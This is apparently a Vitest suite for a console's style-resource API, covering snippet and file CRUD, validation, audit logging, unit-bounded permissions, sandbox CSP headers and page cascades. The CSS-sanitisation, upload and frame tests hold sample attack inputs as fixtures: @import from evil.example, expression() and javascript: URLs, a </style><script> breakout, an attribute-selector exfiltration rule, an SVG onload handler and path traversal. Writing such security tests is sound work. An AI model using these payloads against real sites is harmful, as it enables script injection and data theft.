/**
 * Style resources through the BFF (docs/decisions/066): every call, validation in the envelope in
 * the caller's language, permissions and unit boundaries, uploads refused without a trace, and the
 * public file and sandbox addresses with their headers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Paged } from '@/lib/contracts/envelope';
import { createHarness, type Harness } from '@/tests/support/harness';
import { okOf, refusedWith, UC_HOST, signInConsoleUsers } from '@/tests/support/console';
import { Browser } from '@/tests/support/bff-client';
import type { StyleDetail, StyleRow } from '@/lib/contracts/style';
import { serveStyleAsset, serveStyleFrame } from '@/lib/style/serve';
import { VUE_RUNTIME_PATH, VUE_VERSION } from '@/lib/style/frame';
import { runtime } from '@/lib/server/runtime';
import { pageRequestOf } from '@/tests/support/bff-client';
import { loadPageStyles } from '@/components/style/server';
import type { SnippetKind } from '@/lib/style/kinds';

let h: Harness;
let admin: Browser;
let h001admin: Browser;
let frontdesk: Browser;
let english: Browser;

const unitId = async (code: string) => (await h.db.prisma.unit.findUniqueOrThrow({ where: { code } })).id;
const count = () => h.db.prisma.styleResource.count();
const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(200, 7)]);
const b64 = (b: Buffer | string) => Buffer.from(b).toString('base64');
const visit = (path: string, headers: Record<string, string> = {}) => new Request(`http://${UC_HOST}${path}`, { headers: { host: UC_HOST, ...headers } });

beforeAll(async () => {
  h = await createHarness();
  // The H001 administrator holds the HTML menu and its edit button (as a grant would give them) before their first call.
  const hotelAdmin = await h.db.prisma.user.findFirstOrThrow({ where: { code: 'h001admin', unit: { code: 'H001' } } });
  const granted = await h.db.prisma.resource.findMany({ where: { name: { in: ['uc_style_html', 'uc_style_html_edit'] } } });
  expect(granted).toHaveLength(2);
  await h.db.prisma.userResource.createMany({ data: granted.map((r) => ({ userId: hotelAdmin.id, resourceId: r.id })) });
  [admin, h001admin, frontdesk] = await signInConsoleUsers();
  english = new Browser(UC_HOST, '127.0.0.1', 'en-US');
  expect((await english.api('POST', '/login', { body: { unitCode: 'HQ', userCode: 'support', password: 'Support@2026' } })).body.result).toBe(0);
});
afterAll(async () => h?.close());

describe('snippets', () => {
  it('adds, lists, reads, changes, disables, enables and deletes a snippet, each change audited', async () => {
    const saved = okOf(await admin.api<StyleRow>('POST', '/style/save', { body: { kind: 'HTML', code: 'promo', name: '促销横幅', content: '<b>欢迎</b>', remark: '首页' } }));
    expect(saved).toMatchObject({ kind: 'HTML', code: 'promo', contentType: 'text/html', enabled: true, unitId: null, address: '/style-frame/html/promo', updatedBy: 'admin' });
    expect(okOf(await admin.api<Paged<StyleRow>>('POST', '/style/list', { body: { kind: 'HTML', code: 'PRO' } })).datas.map((r) => r.code)).toEqual(['promo']);
    expect(okOf(await admin.api<Paged<StyleRow>>('POST', '/style/list', { body: { kind: 'CSS' } })).datas.map((r) => r.code)).not.toContain('promo');
    expect(okOf(await admin.api<StyleDetail>('GET', `/style/${saved.id}`)).content).toBe('<b>欢迎</b>');

    okOf(await admin.api('POST', '/style/save', { body: { id: saved.id, kind: 'HTML', code: 'promo', name: '促销', content: '<i>新</i>' } }));
    const update = await h.db.prisma.auditLog.findFirstOrThrow({ where: { objectType: 'StyleResource', objectId: String(saved.id), action: 'UPDATE' } });
    expect(JSON.parse(update.before!)).toMatchObject({ name: '促销横幅', content: '<b>欢迎</b>' });
    expect(JSON.parse(update.after!)).toMatchObject({ name: '促销', content: '<i>新</i>' });

    expect(okOf(await admin.api<StyleRow>('POST', '/style/enable', { body: { id: saved.id, enabled: false } })).enabled).toBe(false);
    expect(await h.db.prisma.auditLog.count({ where: { objectType: 'StyleResource', objectId: String(saved.id), action: 'DISABLE' } })).toBe(1);
    expect(okOf(await admin.api<Paged<StyleRow>>('POST', '/style/list', { body: { kind: 'HTML', enabled: 'F' } })).datas.map((r) => r.code)).toEqual(['promo']);
    expect((await serveStyleFrame(visit('/style-frame/html/promo'), ['html', 'promo'])).status).toBe(404);
    okOf(await admin.api('POST', '/style/enable', { body: { id: saved.id, enabled: true } }));
    expect((await serveStyleFrame(visit('/style-frame/html/promo'), ['html', 'promo'])).status).toBe(200);

    okOf(await admin.api('DELETE', `/style/${saved.id}`));
    expect(await h.db.prisma.styleResource.count({ where: { id: saved.id } })).toBe(0);
    const removed = await h.db.prisma.auditLog.findFirstOrThrow({ where: { objectType: 'StyleResource', objectId: String(saved.id), action: 'DELETE' } });
    expect(JSON.parse(removed.before!).code).toBe('promo');
    refusedWith(await admin.api('GET', `/style/${saved.id}`), 40400);
  });

  it('refuses bad input in the envelope, in the caller’s language, and changes nothing', async () => {
    okOf(await admin.api('POST', '/style/save', { body: { kind: 'CSS', code: 'taken', name: '已有', content: 'a{color:red}' } }));
    const before = await count();
    for (const [body, field] of [
      [{ kind: 'HTML', code: 'bad code!', name: 'x', content: '<p>x</p>' }, 'code'],
      [{ kind: 'HTML', code: 'ok', name: '', content: '<p>x</p>' }, 'name'],
      [{ kind: 'HTML', code: 'ok', name: 'x', content: '   ' }, 'content'],
      [{ kind: 'PDF', code: 'ok', name: 'x', content: 'x' }, 'kind'],
      [{ kind: 'HTML', code: 'ok', name: 'x', content: 'x', host: 'not a host' }, 'host'],
      [{ kind: 'HTML', code: 'ok', name: 'x', content: 'x', host: 'unknown.example' }, 'host'],
      [{ kind: 'HTML', code: 'ok', name: 'x', content: 'x'.repeat(100_001) }, 'content'],
    ] as const) {
      const res = await admin.api<{ fields: Record<string, string[]> }>('POST', '/style/save', { body });
      refusedWith(res, 40000);
      expect(res.body.msg).toMatch(/^输入有误/);
      expect(Object.keys(res.body.retVal.fields)).toContain(field);
    }
    // A unit that does not exist: 40400 naming the field (the call's declared scope).
    const unknownUnit = await admin.api<{ fields: Record<string, string[]> }>('POST', '/style/save', { body: { kind: 'HTML', code: 'ok', name: 'x', content: 'x', unitId: 999_999 } });
    expect(unknownUnit.body).toMatchObject({ result: 40400, msg: '找不到所指的记录：unitId', retVal: { fields: { unitId: ['not_found'] } } });
    const taken = await admin.api('POST', '/style/save', { body: { kind: 'CSS', code: 'taken', name: '又一个', content: 'b{color:blue}' } });
    expect(taken.body).toMatchObject({ result: 40902, msg: '编码已存在：taken' });
    const row = await h.db.prisma.styleResource.findFirstOrThrow({ where: { code: 'taken' } });
    refusedWith(await admin.api('POST', '/style/save', { body: { id: row.id, kind: 'HTML', code: 'taken', name: 'x', content: '<p>x</p>' } }), 40000);
    const english400 = await english.api('POST', '/style/save', { body: { kind: 'HTML', code: 'bad code!', name: 'x', content: 'x' } });
    expect(english400.body).toMatchObject({ result: 40000 });
    expect(english400.body.msg).toMatch(/^Invalid input/);
    expect(await count()).toBe(before);
    expect((await h.db.prisma.styleResource.findUniqueOrThrow({ where: { id: row.id } })).kind).toBe('CSS');
  });

  it('20 creations of one code at once: exactly one is saved, the others hear 40902, one audit row', async () => {
    const before = await count();
    const results = await Promise.all(
      Array.from({ length: 20 }, (_, i) => admin.api('POST', '/style/save', { body: { kind: 'HTML', code: 'race', name: `同时${i}`, content: `<p>${i}</p>` } })),
    );
    expect(results.filter((r) => r.body.result === 0)).toHaveLength(1);
    expect(results.filter((r) => r.body.result === 40902)).toHaveLength(19);
    expect(await count()).toBe(before + 1);
    const row = await h.db.prisma.styleResource.findFirstOrThrow({ where: { kind: 'HTML', code: 'race' } });
    expect(await h.db.prisma.auditLog.count({ where: { objectType: 'StyleResource', objectId: String(row.id), action: 'CREATE' } })).toBe(1);
  });

  it('cleans CSS on save: no expression(), no script addresses, no @import of other sites', async () => {
    const css = [
      '@import url(https://evil.example/x.css);',
      '@import "//evil.example/y.css";',
      '@import url(/style-assets/base.css);',
      'a { color: red; width: expression(alert(1)); }',
      'b { background: url("javascript:alert(1)"); }',
      'i { background: url(j\\61vascript:alert(1)); }',
      'p { margin: 0 } /* comment */ </style><script>alert(1)</script>',
    ].join('\n');
    const saved = okOf(await admin.api<StyleRow>('POST', '/style/save', { body: { kind: 'CSS', code: 'theme', name: '主题', content: css } }));
    const { content } = okOf(await admin.api<StyleDetail>('GET', `/style/${saved.id}`));
    expect(content).toContain('@import url(/style-assets/base.css)');
    expect(content).toContain('color: red');
    expect(content).toContain('margin: 0');
    for (const gone of ['evil.example', 'expression', 'javascript', 'j\\61vascript', 'comment', '</style']) expect(content).not.toContain(gone);
  });

  it('serves a saved snippet only in the sandbox document, and the empty frame for previews', async () => {
    okOf(await admin.api('POST', '/style/save', { body: { kind: 'JAVASCRIPT', code: 'clock', name: '时钟', content: 'document.body.textContent = "</script>" + 1;' } }));
    const frame = await serveStyleFrame(visit('/style-frame/javascript/clock'), ['javascript', 'clock']);
    expect(frame.status).toBe(200);
    expect(frame.headers.get('content-type')).toBe('text/html; charset=utf-8');
    const policy = frame.headers.get('content-security-policy')!;
    expect(policy).toMatch(/^sandbox allow-scripts;/);
    expect(policy).not.toContain('allow-same-origin');
    expect(policy).toContain("connect-src 'none'");
    expect(policy).toContain("default-src 'none'");
    expect(frame.headers.get('x-content-type-options')).toBe('nosniff');
    const html = await frame.text();
    expect(html).toContain('<script>document.body.textContent = "<\\/script>" + 1;</script>');

    const empty = await serveStyleFrame(visit('/style-frame'), []);
    expect(empty.status).toBe(200);
    expect(empty.headers.get('content-security-policy')).toMatch(/^sandbox allow-scripts;/);
    expect(await empty.text()).toContain("addEventListener('message'");

    expect((await serveStyleFrame(visit('/style-frame/file/clock'), ['file', 'clock'])).status).toBe(404);
    expect((await serveStyleFrame(visit('/style-frame/html/clock'), ['html', 'clock'])).status).toBe(404);
    expect((await serveStyleFrame(visit('/style-frame/javascript/clock/x'), ['javascript', 'clock', 'x'])).status).toBe(404);
    expect((await serveStyleFrame(new Request('http://evil.example/style-frame', { headers: { host: 'evil.example' } }), [])).status).toBe(404);
    // A code that no save could have made is not looked up, here or upstream: the backend is never asked.
    const asked: string[] = [];
    const rt = runtime();
    const watched = {
      ...rt,
      backend: {
        ...rt.backend,
        style: {
          readAsset: async (ctx: never, input: { code: string }) => (asked.push(input.code), rt.backend.style.readAsset(ctx, input)),
          readSnippet: async (ctx: never, input: { kind: SnippetKind; code: string }) => (asked.push(input.code), rt.backend.style.readSnippet(ctx, input)),
          listApplied: rt.backend.style.listApplied,
        },
      },
    };
    expect((await serveStyleFrame(visit('/style-frame/javascript/..%2Fx'), ['javascript', '../x'], watched)).status).toBe(404);
    expect((await serveStyleAsset(visit('/style-assets/a%20b'), 'a b', watched)).status).toBe(404);
    expect((await serveStyleAsset(visit('/style-assets/x'), 'x'.repeat(61), watched)).status).toBe(404);
    expect(asked).toEqual([]);
    expect((await serveStyleAsset(visit('/style-assets/no-such-file'), 'no-such-file', watched)).status).toBe(404);
    expect(asked).toEqual(['no-such-file']);
  });
});

describe('files', () => {
  it('uploads an image, a font and a stylesheet and serves them publicly with their type, nosniff and caching', async () => {
    const image = okOf(await admin.api<StyleRow>('POST', '/style/save', { body: { kind: 'FILE', code: 'login-bg.png', name: '登录背景', file: { fileName: 'bg.png', data: b64(PNG) } } }));
    expect(image).toMatchObject({ contentType: 'image/png', size: PNG.length, fileName: 'bg.png' });
    expect(image.address).toMatch(/^\/style-assets\/login-bg\.png\?v=[0-9a-f]{12}$/);

    // A visitor without a session (the login page's).
    const res = await serveStyleAsset(visit('/style-assets/login-bg.png'), 'login-bg.png');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/png');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(res.headers.get('cache-control')).toBe('public, max-age=300');
    expect(Buffer.from(await res.arrayBuffer()).equals(PNG)).toBe(true);
    const etag = res.headers.get('etag')!;
    expect((await serveStyleAsset(visit('/style-assets/login-bg.png', { 'if-none-match': etag }), 'login-bg.png')).status).toBe(304);
    const versioned = await serveStyleAsset(visit(image.address), 'login-bg.png');
    expect(versioned.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');

    const woff2 = Buffer.concat([Buffer.from('wOF2'), Buffer.alloc(64, 1)]);
    okOf(await admin.api('POST', '/style/save', { body: { kind: 'FILE', code: 'brand-font', name: '品牌字体', file: { fileName: 'brand.woff2', data: b64(woff2) } } }));
    const font = await serveStyleAsset(visit('/style-assets/brand-font'), 'brand-font');
    expect(font.headers.get('content-type')).toBe('font/woff2');
    expect(font.headers.get('access-control-allow-origin')).toBe('*');

    const sheet = okOf(await admin.api<StyleRow>('POST', '/style/save', { body: { kind: 'FILE', code: 'login.css', name: '登录样式', file: { fileName: 'login.css', data: b64('body{color:#333;behavior:url(x.htc)}') } } }));
    expect(sheet.contentType).toBe('text/css');
    const css = await serveStyleAsset(visit('/style-assets/login.css'), 'login.css');
    expect(css.headers.get('content-type')).toBe('text/css; charset=utf-8');
    expect(await css.text()).toBe('body{color:#333;}');
    // A stylesheet stored before today's rules (or by an upstream) still goes out cleaned.
    await h.db.prisma.styleResource.update({ where: { id: sheet.id }, data: { data: new Uint8Array(Buffer.from('a{color:red}input[value^="a"]{background:url(https://evil.example/a)}')) } });
    expect(await (await serveStyleAsset(visit('/style-assets/login.css'), 'login.css')).text()).toBe('a{color:red}input[value^="a"]{}');

    // Changing the name keeps the file; a new file replaces it.
    okOf(await admin.api('POST', '/style/save', { body: { id: image.id, kind: 'FILE', code: 'login-bg.png', name: '登录背景图' } }));
    expect((await h.db.prisma.styleResource.findUniqueOrThrow({ where: { id: image.id } })).size).toBe(PNG.length);
    const audit = await h.db.prisma.auditLog.findFirstOrThrow({ where: { objectType: 'StyleResource', objectId: String(image.id), action: 'CREATE' } });
    expect(audit.after).not.toContain(b64(PNG));

    okOf(await admin.api('POST', '/style/enable', { body: { id: image.id, enabled: false } }));
    expect((await serveStyleAsset(visit('/style-assets/login-bg.png'), 'login-bg.png')).status).toBe(404);
    expect((await serveStyleAsset(visit('/style-assets/nope'), 'nope')).status).toBe(404);
  });

  it('refuses a file over the limit or of a type not on the list, and stores nothing', async () => {
    const before = await count();
    const big = Buffer.concat([PNG, Buffer.alloc(512 * 1024, 1)]);
    const tooBig = await admin.api('POST', '/style/save', { body: { kind: 'FILE', code: 'big', name: '大图', file: { fileName: 'big.png', data: b64(big) } } });
    expect(tooBig.status).toBe(413);
    expect(tooBig.body).toMatchObject({ result: 41301, msg: '上传的文件不能超过 512 KB' });
    const svg = await admin.api('POST', '/style/save', { body: { kind: 'FILE', code: 'logo.svg', name: '矢量图', file: { fileName: 'logo.svg', data: b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') } } });
    expect(svg.status).toBe(415);
    expect(svg.body.result).toBe(41500);
    expect(svg.body.msg).toContain('不支持该文件类型');
    const page = await english.api('POST', '/style/save', { body: { kind: 'FILE', code: 'page', name: 'page', file: { fileName: 'page.html', data: b64('<html><script>alert(1)</script></html>') } } });
    expect(page.body.result).toBe(41500);
    expect(page.body.msg).toMatch(/^This file type is not accepted/);
    refusedWith(await admin.api('POST', '/style/save', { body: { kind: 'FILE', code: 'none', name: '无文件' } }), 40000);
    refusedWith(await admin.api('POST', '/style/save', { body: { kind: 'FILE', code: 'bad', name: 'x', file: { fileName: 'x.png', data: 'not base64!' } } }), 40000);
    // Larger than the BFF takes at all.
    const huge = await admin.api('POST', '/style/save', { body: { kind: 'FILE', code: 'huge', name: 'x', file: { fileName: 'x.png', data: b64(Buffer.alloc(900 * 1024, 1)) } } });
    expect(huge.body.result).toBe(41300);
    expect(await count()).toBe(before);
    expect(await h.db.prisma.styleResource.count({ where: { code: { in: ['big', 'logo.svg', 'page', 'none', 'bad', 'huge'] } } })).toBe(0);
  });
});

describe('who may', () => {
  it('refuses every call to a user without the permissions', async () => {
    const row = okOf(await admin.api<StyleRow>('POST', '/style/save', { body: { kind: 'UI', code: 'card', name: '卡片', content: '<div>卡片</div>' } }));
    const before = await count();
    refusedWith(await frontdesk.api('POST', '/style/list', { body: { kind: 'UI' } }), 40300);
    refusedWith(await frontdesk.api('GET', `/style/${row.id}`), 40300);
    refusedWith(await frontdesk.api('POST', '/style/save', { body: { kind: 'UI', code: 'mine', name: 'x', content: 'x' } }), 40300);
    refusedWith(await frontdesk.api('POST', '/style/enable', { body: { id: row.id, enabled: false } }), 40300);
    refusedWith(await frontdesk.api('DELETE', `/style/${row.id}`), 40300);
    expect(await count()).toBe(before);
    expect((await h.db.prisma.styleResource.findUniqueOrThrow({ where: { id: row.id } })).enabled).toBe(true);
  });

  it('keeps a unit administrator to the resources of their units', async () => {
    const [h001, h002] = await Promise.all([unitId('H001'), unitId('H002')]);
    const theirs = okOf(await admin.api<StyleRow>('POST', '/style/save', { body: { kind: 'HTML', code: 'h001-notice', name: '一店公告', content: '<p>1</p>', unitId: h001 } }));
    const other = okOf(await admin.api<StyleRow>('POST', '/style/save', { body: { kind: 'HTML', code: 'h002-notice', name: '二店公告', content: '<p>2</p>', unitId: h002 } }));
    const platform = okOf(await admin.api<StyleRow>('POST', '/style/save', { body: { kind: 'HTML', code: 'all-notice', name: '平台公告', content: '<p>*</p>' } }));
    expect(theirs).toMatchObject({ unitId: h001, unitCode: 'H001' });

    const seen = okOf(await h001admin.api<Paged<StyleRow>>('POST', '/style/list', { body: { kind: 'HTML' } }));
    expect(seen.datas.map((r) => r.code)).toEqual(['h001-notice']);
    okOf(await h001admin.api('GET', `/style/${theirs.id}`));
    okOf(await h001admin.api('POST', '/style/save', { body: { id: theirs.id, kind: 'HTML', code: 'h001-notice', name: '一店公告（新）', content: '<p>1!</p>', unitId: h001 } }));
    const mine = okOf(await h001admin.api<StyleRow>('POST', '/style/save', { body: { kind: 'HTML', code: 'h001-banner', name: '一店横幅', content: '<p>b</p>', unitId: h001 } }));

    const before = await count();
    refusedWith(await h001admin.api('GET', `/style/${other.id}`), 40300);
    refusedWith(await h001admin.api('GET', `/style/${platform.id}`), 40300);
    refusedWith(await h001admin.api('POST', '/style/save', { body: { kind: 'HTML', code: 'h001-global', name: 'x', content: 'x' } }), 40300);
    refusedWith(await h001admin.api('POST', '/style/save', { body: { kind: 'HTML', code: 'h001-other', name: 'x', content: 'x', unitId: h002 } }), 40300);
    // Moving their own resource to another unit, or changing another unit's.
    refusedWith(await h001admin.api('POST', '/style/save', { body: { id: mine.id, kind: 'HTML', code: 'h001-banner', name: 'x', content: 'x', unitId: h002 } }), 40300);
    refusedWith(await h001admin.api('POST', '/style/save', { body: { id: other.id, kind: 'HTML', code: 'h002-notice', name: 'x', content: 'x', unitId: h001 } }), 40300);
    refusedWith(await h001admin.api('POST', '/style/enable', { body: { id: other.id, enabled: false } }), 40300);
    refusedWith(await h001admin.api('DELETE', `/style/${platform.id}`), 40300);
    // The menu gives HTML snippets' permissions for every kind: the unit still bounds them.
    expect(okOf(await h001admin.api<Paged<StyleRow>>('POST', '/style/list', { body: { kind: 'CSS' } })).datas).toEqual([]);
    expect(await count()).toBe(before);
    const untouched = await h.db.prisma.styleResource.findUniqueOrThrow({ where: { id: other.id } });
    expect(untouched).toMatchObject({ unitId: h002, name: '二店公告', enabled: true });
    okOf(await h001admin.api('DELETE', `/style/${mine.id}`));
  });
});

describe("the frames' Vue runtime", () => {
  it('is served from this site, the one script the frames may load, cached for good at its versioned address', async () => {
    const res = await serveStyleFrame(visit(`${VUE_RUNTIME_PATH}?v=${VUE_VERSION}`), ['vendor', 'vue.js']);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
    expect(res.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(res.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
    expect(await res.text()).toContain('createApp');
    const frame = await serveStyleFrame(visit('/style-frame'), []);
    expect(frame.headers.get('content-security-policy')).toContain(`script-src 'unsafe-inline' 'unsafe-eval' http://${UC_HOST}${VUE_RUNTIME_PATH};`);
    expect((await serveStyleFrame(visit('/style-frame/vendor/react.js'), ['vendor', 'react.js'])).status).toBe(404);
  });
});

describe('what pages put on themselves', () => {
  const save = (body: Record<string, unknown>) => admin.api<StyleRow>('POST', '/style/save', { body: { name: body.code, ...body } });
  const loginCodes = async (host: string) =>
    (await runtime().backend.style.listApplied({ locale: 'zh-CN', ip: '', userAgent: '', appCode: 'UC', host }, { placement: 'LOGIN', host })).map((a) => a.code);
  const shellCodes = async (browser: Browser) => {
    const req = await pageRequestOf(browser);
    const { styles, frames } = await loadPageStyles(req.call, 'SHELL', req.host);
    return [...styles.map((s) => s.code), ...frames.map((f) => f.code)];
  };

  beforeAll(async () => {
    const [hq, h001, h002] = await Promise.all([unitId('HQ'), unitId('H001'), unitId('H002')]);
    const css = async (code: string, extra: Record<string, unknown>) => okOf(await save({ kind: 'CSS', code, content: `body{--mark:"${code}"}`, ...extra }));
    // Saved out of their cascade order on purpose: the list comes back in it.
    await css('uc-hq-login', { unitId: hq, host: 'uc.localhost', onLogin: true });
    await css('hq-login', { unitId: hq, onLogin: true });
    await css('all-login', { onLogin: true });
    await css('h002-login', { unitId: h002, onLogin: true });
    await css('off-login', { onLogin: true, enabled: false });
    await css('demo-login', { host: 'demo.localhost', onLogin: true });
    await css('h001-shell', { unitId: h001, inShell: true });
    await css('hq-shell', { unitId: hq, inShell: true });
    await css('both', { onLogin: true, inShell: true });
    okOf(await save({ kind: 'HTML', code: 'welcome-banner', content: '<p>冬季特惠</p>', unitId: hq, onLogin: true, inShell: true }));
    okOf(await save({ kind: 'FILE', code: 'theme.css', file: { fileName: 'theme.css', data: b64('.x{color:red}') }, unitId: hq, onLogin: true }));
  });

  it("gives a domain's login page the resources of every domain and its own, of every unit and its unit's line, most general first", async () => {
    expect(await loginCodes('uc.localhost')).toEqual(['all-login', 'both', 'hq-login', 'theme.css', 'welcome-banner', 'uc-hq-login']);
    // Another domain of the same unit: not the uc.localhost one, but its own.
    expect(await loginCodes('demo.localhost')).toEqual(['all-login', 'both', 'demo-login', 'hq-login', 'theme.css', 'welcome-banner']);
    // A host with no domain record: the platform-wide ones of every domain only.
    expect(await loginCodes('nodomain.localhost')).toEqual(['all-login', 'both']);
  });

  it("gives the shell the resources of the caller's unit and the units above it, never another unit's", async () => {
    expect(await shellCodes(frontdesk)).toEqual(['both', 'hq-shell', 'h001-shell', 'HTML:welcome-banner']);
    expect(await shellCodes(admin)).toEqual(['both', 'hq-shell', 'HTML:welcome-banner']);
    expect(await shellCodes(new Browser(UC_HOST))).toEqual([]);
  });

  it('follows a change at the next page: disabled or taken off the login page, a resource is gone', async () => {
    const row = okOf(await admin.api<Paged<StyleRow>>('POST', '/style/list', { body: { kind: 'CSS', code: 'hq-login' } })).datas[0]!;
    expect(row).toMatchObject({ onLogin: true, inShell: false });
    okOf(await admin.api('POST', '/style/enable', { body: { id: row.id, enabled: false } }));
    expect(await loginCodes('uc.localhost')).not.toContain('hq-login');
    okOf(await admin.api('POST', '/style/enable', { body: { id: row.id, enabled: true } }));
    okOf(await save({ id: row.id, kind: 'CSS', code: 'hq-login', content: 'body{}', unitId: row.unitId, onLogin: false, inShell: true }));
    expect(await loginCodes('uc.localhost')).not.toContain('hq-login');
    expect(await shellCodes(admin)).toContain('hq-login');
  });

  it('refuses to put an image on a page by itself, and changes nothing', async () => {
    const before = await count();
    refusedWith(await save({ kind: 'FILE', code: 'bg-on-page.png', file: { fileName: 'bg.png', data: b64(PNG) }, onLogin: true }), 40000);
    const image = okOf(await save({ kind: 'FILE', code: 'bg-plain.png', file: { fileName: 'bg.png', data: b64(PNG) } }));
    const refused = await save({ id: image.id, kind: 'FILE', code: 'bg-plain.png', inShell: true });
    refusedWith(refused, 40000);
    expect(refused.body.msg).toContain('inShell');
    expect(await count()).toBe(before + 1);
    expect((await h.db.prisma.styleResource.findUniqueOrThrow({ where: { id: image.id } })).inShell).toBe(false);
  });
});
